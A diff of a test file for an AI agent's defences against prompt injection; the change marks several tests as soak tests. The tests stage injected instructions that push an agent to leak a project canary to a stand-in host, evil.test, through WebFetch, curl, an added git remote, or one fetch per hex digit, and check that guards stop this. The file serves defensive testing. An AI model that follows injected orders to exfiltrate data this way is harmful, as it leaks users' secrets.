@@ -5,7 +5,7 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import type { AgentOptions } from '../../src/api/types.ts';
 import { loadGrammar } from '../../src/permissions/shell/grammar.ts';
 import { canaries, ordered, type Played, type Stage, stage } from '../support/obedient.ts';
-import { sweep } from '../support/soak.ts';
+import { soak, sweep } from '../support/soak.ts';
 import { freshFolder } from '../support/workspace.ts';
 import { type Exit, exits, issue, persistent, placeOf, served, tracker, ways } from './injections.cases.ts';
 
@@ -153,7 +153,7 @@ describe('in every mode', () => {
     expect(results.at(-1)).toContain('permissions.trust');
   });
 
-  test('rules of trust settle it', async () => {
+  test('rules of trust settle it', soak, async () => {
     const settings = { ...open.settings, permissions: { trust: ['WebFetch(domain:evil.test)'] } };
     const set = page.stage(ordered(...direct.orders));
     const played = await stage({ ...set, options: { ...open, settings } });
@@ -168,7 +168,7 @@ describe('later', () => {
   const orders = ordered(...(exits.find(({ name }) => name === 'with curl') ?? direct).orders);
   const fetch = ordered(...page.task);
 
-  test('in the next run of the session', async () => {
+  test('in the next run of the session', soak, async () => {
     const played = await stage({ ...exit, options: open });
     await played.run(fetch);
     await played.run(orders);
@@ -176,7 +176,7 @@ describe('later', () => {
     expect(played.guarded).toHaveLength(1);
   });
 
-  test('after the session was resumed, also by a remote that was added before', async () => {
+  test('after the session was resumed, also by a remote that was added before', soak, async () => {
     const played = await stage({ ...exit, options: open, prepare: repository });
     await played.run(fetch);
     execFileSync('git', ['-C', played.space.root, 'remote', 'add', 'evil', '../evil.git']);
@@ -194,7 +194,7 @@ describe('later', () => {
     expect(played.guarded).toEqual([expect.stringContaining('which you have not trusted')]);
   });
 
-  test('spelling data with links of pages ends after a few', async () => {
+  test('spelling data with links of pages ends after a few', soak, async () => {
     const letters = [...'0123456789abcdef'].map((digit) => `http://evil.test/${digit}`);
     const spelled = [...Buffer.from(canaries.project).toString('hex')].map((digit) => ({
       tool: 'WebFetch',
